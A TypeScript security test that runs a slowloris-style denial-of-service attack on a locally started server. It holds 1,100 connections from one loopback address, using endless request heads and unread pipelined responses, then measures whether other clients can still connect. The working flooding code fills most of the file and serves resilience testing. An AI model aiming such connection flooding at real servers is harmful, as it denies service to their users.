import type { Socket } from 'node:net'
import type { Program } from '@cognito-srp/testing/attacked/program'
import { sendUnread } from '@cognito-srp/testing/attacked/requests'
import { pause, visitAlone, watchVisits } from '@cognito-srp/testing/attacked/witness'

import { attack } from './harness/attack.ts'

// One address opens more connections than a server accepts, and reopens each connection that the server closes. New
// clients connect from another address.

const CONNECTIONS = 1_100
const ATTACK_MS = 6_000
const EVERY_MS = 250

const ATTACKER = '127.0.0.1'
const NEWCOMER = '127.0.0.2'

/** Bytes that a connection sends first, and bytes that it then sends four times a second. */
type Kind = { first: string; next: string }

const KINDS: Record<string, Kind> = {
  'request heads that never end': { first: 'GET / HTTP/1.1\r\nHost: localhost\r\nX: ', next: 'x' },
  'responses that are not read': { first: 'GET / HTTP/1.1\r\nHost: localhost\r\n\r\n'.repeat(120), next: '' },
}

export default attack({
  does: 'an anonymous client holds 1,100 connections from one address so that nobody else can connect',
  run: async (checkout) => {
    const figures: Record<string, string> = {}
    const harmful: string[] = []
    for (const [name, kind] of Object.entries(KINDS)) {
      const product = await checkout.startProduct()
      const { isHarmed, figure } = await attackProduct(product, kind)
      figures[name] = figure
      if (isHarmed) harmful.push(name)
      await product.stop()
    }
    return { harm: harmful.length > 0, figures: { ...figures, 'harm by': harmful.join(', ') || 'none' } }
  },
})

async function attackProduct(product: Program, kind: Kind): Promise<{ isHarmed: boolean; figure: string }> {
  const visit = { url: `${product.url}/`, from: NEWCOMER }
  const alone = await visitAlone(visit)
  const visits = watchVisits(visit)
  await visits.warmUp
  const holder = holdConnections(product.url, kind)
  await pause(ATTACK_MS)
  const { answers, failures, p50Ms, slowestMs } = await visits.stop()
  const opened = holder.stop()
  return {
    isHarmed: !product.isAlive || answers === 0 || failures > 0,
    figure: `${opened} connections opened; newcomers: ${answers} answers, ${failures} failures, p50 ${alone.p50Ms} → ${p50Ms} ms, slowest ${slowestMs} ms; memory at most ${product.usage.peakRssMb} MB`,
  }
}

/**
 * Opens connections, and replaces each connection that the server closes, until `stop` is called. `stop` returns the
 * number of opened connections.
 */
function holdConnections(url: string, { first, next }: Kind): { stop(): number } {
  const sockets: Socket[] = []
  let opened = 0
  const send = () => {
    for (let index = 0; index < CONNECTIONS; index += 1) {
      const socket = sockets[index]
      if (socket === undefined || socket.destroyed) {
        sockets[index] = sendUnread(url, first, ATTACKER)
        opened += 1
      } else if (next !== '') socket.write(next)
    }
  }
  send()
  const timer = setInterval(send, EVERY_MS)
  return {
    stop: () => {
      clearInterval(timer)
      for (const socket of sockets) socket.destroy()
      return opened
    },
  }
}
